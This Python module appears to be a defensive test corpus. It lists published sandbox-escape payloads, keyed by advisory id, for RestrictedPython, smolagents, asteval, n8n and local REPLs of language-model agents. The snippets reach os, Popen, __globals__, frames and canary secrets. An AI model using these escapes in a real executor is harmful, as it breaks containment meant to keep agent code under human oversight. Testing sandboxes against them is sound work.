"""The published ways out of RestrictedPython, smolagents' local executor, asteval, and what resembles them; by advisory.

Each key begins with the id of an advisory, an issue or a pull request, or with a word for what was measured of a local REPL of the
reference RLMs. ``docs/limitations/restricted.md`` lists the same ids. Where the report has a payload this is that payload's way, cut down
to the step that leaves the language and with ``r`` for what it reached; where it has none (ids of ``NO_PAYLOAD``) it is written after the description.
"""

from __future__ import annotations

from typing import Final, NamedTuple

__all__ = ("ATTACKS", "NO_PAYLOAD", "Attack")


class Attack(NamedTuple):
    """``control``: it reaches something in plain Python too (not so where the hole was in a system of its own making)."""

    code: str
    control: bool = True


F: Final = "def f():\n    return 1\n"

RESTRICTED_PYTHON: Final = {
    "CVE-2023-37271 the advisory's": Attack(
        "g = None\nleak = None\ndef test():\n    global g, leak\n    leak = g.gi_frame.f_back.f_back\n    yield leak\ng = test()\ng.send(None)\n"
        "r = leak.f_builtins.get('__import__')('os')"
    ),
    "CVE-2023-37271 the advisory's second": Attack("q = (q.gi_frame.f_back for _ in (1,))\nr = [x for x in q][0].f_builtins['__import__']('os')"),
    "PVE-2021-37433 format": Attack("r = '{0.__class__.__base__.__subclasses__}'.format([])"),
    "issue 142 getattr": Attack(
        "c = [c for c in getattr(getattr(getattr([], '__class__'), '__base__'), '__subclasses__')() if c.__name__ == 'IncrementalEncoder']\n"
        "r = getattr(getattr(c[0], '__init__'), '__globals__')['sys']"
    ),
    "issue 102 star import": Attack("from os import *\nr = [x for x in dir() if x == 'system'] and system"),
    "PR 282 a str's subclass": Attack(f"{F}class S(str):\n    pass\nr = getattr(f, S('__globals__'))"),
    "PR 285 inspection names": Attack("def gen():\n    yield 1\nr = [getattr(gen(), name) for name in ('gi_frame', 'gi_code')]"),
    "GHSA-8xv7-89vj-q48c format_map": Attack(f"{F}r = str.format_map('{{x.__globals__}}', {{'x': f}})"),
    "CVE-2026-76825 get_field": Attack(f"{F}import string\nr = string.Formatter().get_field('0.__globals__', (f,), {{}})[0]"),
    "CVE-2026-76825 subclass": Attack(
        f"{F}import string\nclass T(string.Formatter):\n    def format_field(self, value, spec):\n        global r\n        r = value\n        return ''\n"
        "T().format('{0.__globals__}', f)"
    ),
    "CVE-2026-55830 print hook": Attack("def f(_print_, /):\n    print('x')\n    return _print_\nr = f(lambda g: g.__globals__)", control=False),
    "CVE-2026-53710 names made at run time": Attack(
        "under = '_' * 2\nbase = getattr(getattr((), under + 'class' + under), under + 'base' + under)\n"
        "r = [c for c in getattr(base, under + 'subclasses' + under)() if c.__name__ == 'Popen']"
    ),
    "grist-core 2353 type and mro": Attack("base = type(()).mro()[-1]\nr = getattr(base, '__sub' + 'classes__')"),
    "grist-core 2353 getattr": Attack(
        "c = [c for c in getattr(type(()).mro()[-1], '__subclasses__')() if getattr(c, '__name__') == '_wrap_close']\n"
        "r = getattr(getattr(c[0], '__init__'), '__globals__')"
    ),
    "grist-core 2353 a hook by name": Attack("def _getattr_(obj, name):\n    return obj\nr = ().__class__.__base__.__subclasses__"),
    "CVE-2023-37271 generator": Attack("def gen():\n    yield g.gi_frame\ng = gen()\nr = next(g)"),
    "CVE-2023-37271 back": Attack("g = (g.gi_frame.f_back for _ in [1])\nr = [g.gi_frame]"),
    "CVE-2023-37271 getattr": Attack("def gen():\n    yield 1\nr = getattr(gen(), 'gi_frame')"),
    "CVE-2023-37271 code": Attack("def gen():\n    yield 1\nr = gen().gi_code"),
    "CVE-2023-41039 format": Attack(f"{F}r = '{{0.__globals__}}'.format(f)"),
    "CVE-2023-41039 format_map": Attack(f"{F}r = '{{x.__globals__}}'.format_map({{'x': f}})"),
    "CVE-2023-41039 class": Attack(f"{F}r = str.format('{{0.__globals__}}', f)"),
    "CVE-2023-41039 getattr": Attack(f"{F}r = getattr('{{0.__globals__}}', 'format')(f)"),
    "CVE-2023-41039 map": Attack(f"{F}r = list(map(str.format, ['{{0.__globals__}}'], [f]))"),
    "CVE-2023-41039 subclass": Attack(f"{F}class S(str):\n    pass\nr = S('{{0.__globals__}}').format(f)"),
    "CVE-2024-47532 obj": Attack("import string\ntry:\n    string.nothing\nexcept AttributeError as e:\n    r = e.obj"),
    "CVE-2024-47532 name": Attack("import math\ntry:\n    math.nothing\nexcept AttributeError as e:\n    r = getattr(e, 'obj')"),
    "CVE-2025-22153 except*": Attack("try:\n    raise ValueError\nexcept* ValueError as e:\n    r = e.__class__.__base__.__subclasses__"),
    "CVE-2026-55830 positional": Attack("def g():\n    pass\ndef f(_getattr_, /):\n    return g.__globals__\nr = f(lambda o, n: o)"),
    "CVE-2026-55830 lambda": Attack("def g():\n    pass\nr = (lambda _write_, /: g.__globals__)(0)"),
    "CVE-2026-55830 hook names": Attack(f"{F}def g(_getattr_, _getitem_, _write_, getattr, /):\n    return f.__globals__\nr = g(1, 2, 3, 4)"),
    "CVE-2026-76825 Formatter": Attack(f"{F}import string\nr = string.Formatter().format('{{0.__globals__}}', f)"),
    "PR 330 attrgetter": Attack(f"{F}import operator\nr = operator.attrgetter('__globals__')(f)"),
    "PR 330 dotted": Attack("import operator\nr = operator.attrgetter('__class__.__base__.__subclasses__')('a')"),
    "PR 330 methodcaller": Attack("import operator\nr = operator.methodcaller('__dir__')(1) and operator.methodcaller('__subclasses__')(object)"),
    "an __import__ of the host": Attack("r = __import__('os')"),
    "an __import__ by getattr": Attack("import builtins\nr = getattr(builtins, '__import__')"),
}  # fmt: skip
SMOLAGENTS: Final = {
    "CVE-2025-9959 traceback": Attack(
        "try:\n    1 / 0\nexcept Exception as e:\n    r = e.__traceback__.tb_frame.f_back.f_globals['__builtins__']"
    ),
    "CVE-2025-9959 catch_warnings": Attack(
        "for cls in {}.__class__.__base__.__subclasses__():\n    if cls.__name__ == 'catch_warnings':\n        r = cls()._module.__builtins__\n        break"
    ),
    "CVE-2025-9959 a function's module": Attack(f"{F}f.__module__ = None\nr = f.__globals__"),
    "CVE-2026-4963 augmented assignment": Attack(
        f"{F}class A:\n    def __iadd__(self, other):\n        return other.__globals__\nx = A()\nx += f\nr = x"
    ),
    "CVE-2026-4963 with": Attack(
        f"{F}class W:\n    def __enter__(self):\n        return f.__globals__\n    def __exit__(self, *a):\n        return True\nwith W() as r:\n    pass"
    ),
    "CVE-2026-4963 with an attribute": Attack(
        f"{F}class W:\n    __enter__ = lambda self: getattr(f, '__glo' + 'bals__')\n    __exit__ = lambda self, *a: True\nwith W() as r:\n    pass"
    ),
    "CVE-2026-4963 call": Attack(f"{F}class W:\n    __call__ = lambda self, o: o.__globals__\nr = W()(f)"),
    "CVE-2025-5120 getattr": Attack(f"{F}r = getattr(f, '__globals__')"),
    "CVE-2025-5120 random": Attack("import random\nr = random._os"),
    "CVE-2025-5120 json": Attack("import json\nr = json.codecs"),
    "CVE-2025-5120 re": Attack("import re\nr = re.enum.sys"),
    "CVE-2025-5120 statistics": Attack("import statistics\nr = statistics.math"),
    "CVE-2025-5120 dataclasses": Attack("import dataclasses\nr = dataclasses.sys.modules"),
    "CVE-2025-5120 from": Attack("from json import codecs\nr = codecs"),
    "CVE-2025-5120 collections": Attack("from collections import _sys as r"),
    "CVE-2025-5120 queue": Attack("import queue\nr = queue.threading"),
    "CVE-2025-9959 walk": Attack("r = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']"),
    "CVE-2025-9959 subclasses": Attack("r = object.__subclasses__"),
    "CVE-2025-9959 type": Attack("r = type(1).__base__.__subclasses__"),
    "CVE-2026-4963 str subclass": Attack(
        f"{F}class S(str):\n    def startswith(self, *a):\n        return False\nr = getattr(f, S('__globals__'))"
    ),
    "CVE-2026-4963 default": Attack(
        f"{F}class S(str):\n    def __str__(self):\n        return 'real'\nr = getattr(f, S('__globals__'), None)"
    ),
    "CVE-2026-4963 decorator": Attack(f"{F}@f.__globals__.get\nclass __builtins__:\n    pass\nr = f.__globals__"),
    "CVE-2026-2654 request": Attack("import urllib.request\nr = urllib.request"),
    "CVE-2026-2654 socket": Attack("import socket\nr = socket"),
    "issue 2094 ctypes": Attack("import ctypes\nr = ctypes"),
    "PR 2271 format": Attack("r = '{0.__class__.__base__.__subclasses__}'.format('a')"),
    "CVE-2025-14931 reduce": Attack("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('true',))\nr = E().__reduce__()"),
}  # fmt: skip
ASTEVAL: Final = {
    "issue 86 the report's": Attack("red = 'x'.upper.__reduce__()\nr = red[0]"),
    "issue 32 type of code": Attack("r = type((lambda: 1).__code__)"),
    "issue 32 the real type": Attack(
        "r = type(type('C', (), {}))('D', (), {'__getattribute__': object.__getattribute__})().__class__.__base__.__subclasses__"
    ),
    "issue 32 a procedure's body": Attack(f"{F}f.__code__ = (lambda: 2).__code__\nr = f.__code__"),
    "CVE-2025-24359 f-string": Attack(f"{F}r = f'{{f.__globals__}}'"),
    "CVE-2025-24359 nested": Attack(f"{F}r = f'{{f.__globals__!r:>{{1}}}}'"),
    "GHSA-vp47-9734-prjw code": Attack(f"{F}r = f.__code__"),
    "GHSA-vp47-9734-prjw replace": Attack(f"{F}f.__code__ = f.__code__.replace(co_consts=(None, 2))\nr = f.__code__"),
    "issue 86 reduce": Attack("r = ''.__reduce_ex__(2)[0].__globals__"),
    "issue 86 reduce by getattr": Attack("r = getattr('', '__reduce_ex__')(2)[0].__globals__"),
}
N8N: Final = {
    "CVE-2025-68668 eval_code": Attack("from _pyodide._base import eval_code\nr = eval_code('import os\\nos')", control=False),
    "CVE-2025-68668 js": Attack("import js\nr = js.process", control=False),
    "CVE-2025-68668 pyodide": Attack("import pyodide_js\nr = pyodide_js._api", control=False),
    "CVE-2025-68668 ctypes": Attack("import ctypes\nr = ctypes.CDLL(None).system"),
    "CVE-2025-68668 a module that is loaded": Attack("import sys\nr = sys.modules['os'].system"),
    "CVE-2026-25115 class walk": Attack(
        "c = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']\nr = c[0].__init__.__globals__['system']"
    ),
    "CVE-2026-25115 builtins of a function": Attack(f"{F}r = f.__builtins__"),
    "CVE-2026-32640 a module in a module": Attack("import statistics\nr = statistics.sys"),
    "CVE-2026-32640 a module in an object": Attack("import textwrap\nr = textwrap.dedent.__globals__"),
    "CVE-2026-0863 format": Attack("import math\ntry:\n    '{0.nothing}'.format(math)\nexcept AttributeError as e:\n    r = e.obj"),
    "CVE-2026-49444 traceback": Attack("try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    r = e.__traceback__.tb_frame"),
    "CVE-2026-49444 exit": Attack(
        "class M:\n    def __enter__(self):\n        return 1\n    def __exit__(self, kind, value, tb):\n        global r\n        r = tb.tb_frame\n"
        "        return True\nwith M():\n    1 / 0"
    ),
    "CVE-2026-49444 match": Attack("def gen():\n    yield 1\nmatch gen():\n    case object(gi_frame=r):\n        pass"),
    "CVE-2023-36258 exec": Attack("exec('import os')\nr = os"),
    "CVE-2023-44467 eval": Attack("r = eval('__import__(\"os\")')"),
    "CVE-2024-27444 bases": Attack("r = ''.__class__.__mro__[1].__subclasses__"),
    "CVE-2024-38459 import": Attack("import os\nr = os"),
}
LOCAL_REPLS: Final = {
    "codecs' builtins": Attack("import json\nr = json.codecs.builtins.open"),
    "collections' sys": Attack("import collections\nr = collections._sys.modules['os']"),
    "uuid's os": Attack("import uuid\nr = uuid.os"),
    "pathlib": Attack("import pathlib\nr = pathlib.Path(CANARY_FILE).read_text()"),
    "a dunder in pieces": Attack("r = getattr((), '__cla' + 'ss__').__base__.__subclasses__"),
    "a warning's class": Attack("r = [object.__subclasses__, [c for c in object.__subclasses__() if c.__name__ == 'catch_warnings']]"),
    "an exception's frame": Attack("try:\n    1 / 0\nexcept Exception as e:\n    r = e.__traceback__.tb_frame.f_builtins"),
    "a generator's frame": Attack("def g():\n    yield 1\nx = g()\nr = x.gi_frame.f_builtins"),
    "a format of a host function": Attack("r = '{0.__globals__}'.format(llm_query)"),
    "partial's own": Attack("import functools\nr = functools.partial(getattr).func", control=True),
    "what sum holds": Attack("r = sum.args[0]", control=False),
    "import os": Attack("import os\nr = os.environ['RLM_CANARY']"),
    "open": Attack("with open(CANARY_FILE) as file:\n    r = file.read()"),
    "environ by sys": Attack("import sys\nr = sys.modules['os']"),
    "globals": Attack("r = globals()['__builtins__']"),
    "vars": Attack("import json\nr = vars(json)"),
    "builtins": Attack("r = __builtins__"),
    "a host function's globals": Attack("r = llm_query.__globals__"),
    "a host function's closure": Attack("r = llm_query.__closure__ or llm_query.__globals__"),
    "a host function's self": Attack("r = llm_query.__call__.__self__.__globals__"),
    "compile": Attack("r = compile('1', 'x', 'eval')"),
    "loader": Attack("import json\nr = json.__loader__.get_source.__globals__"),
    "spec": Attack("r = [__spec__, __loader__, __builtins__]"),
    "NFKC": Attack(f"{F}r = f.__\uff47lobals__"),
    "super": Attack("r = super(int, 1).__getattribute__('__class__').__base__.__subclasses__"),
    "metaclass": Attack("class M(type):\n    pass\nclass C(metaclass=M):\n    pass\nr = C.__base__.__subclasses__"),
    "mro": Attack("r = int.mro()[1].__subclasses__"),
    "type with dunder": Attack("C = type('C', (), {'__getattribute__': object.__getattribute__})\nr = C().__class__.__base__.__subclasses__"),
    "partial": Attack(f"{F}import functools\nr = functools.partial(getattr, f, '__globals__')()"),
    "sorted key": Attack(f"{F}r = [getattr(*pair) for pair in [(f, '__globals__')]]"),
    "dataclass field": Attack(
        "from dataclasses import dataclass\nC = type('C', (), {'__annotations__': {'a:int=r.append(__import__(\"os\"))': int}})\nr = []\n"
        "C = dataclass(C)\nr = [__import__('os')]",
        control=False,
    ),
    "asyncio": Attack("import asyncio\nr = asyncio.sys"),
    "gc": Attack("import gc\nr = gc.get_objects()[:1] and gc"),
    "inspect": Attack("import inspect\nr = inspect.currentframe()"),
    "importlib": Attack("import importlib\nr = importlib.import_module('os')"),
    "pickle": Attack("import pickle\nr = pickle.loads(b'cos\\nsystem\\n.')"),
    "lru_cache": Attack(f"{F}import functools\nr = functools.lru_cache(f).__wrapped__.__globals__"),
    "async frame": Attack("async def c():\n    pass\nx = c()\nr = x.cr_frame\nx.close()"),
}  # fmt: skip
ATTACKS: Final = {
    f"{system}: {name}": attack
    for system, attacks in (
        ("RestrictedPython", RESTRICTED_PYTHON), ("smolagents", SMOLAGENTS), ("asteval", ASTEVAL), ("others", N8N), ("RLM", LOCAL_REPLS),
    )
    for name, attack in attacks.items()
}  # fmt: skip
#: Advisories whose description tells the kind of hole and shows no code.
NO_PAYLOAD: Final = frozenset(
    {"CVE-2026-25115", "CVE-2025-68668", "CVE-2026-4963", "CVE-2026-2654", "CVE-2026-49444", "CVE-2025-24359"}
)
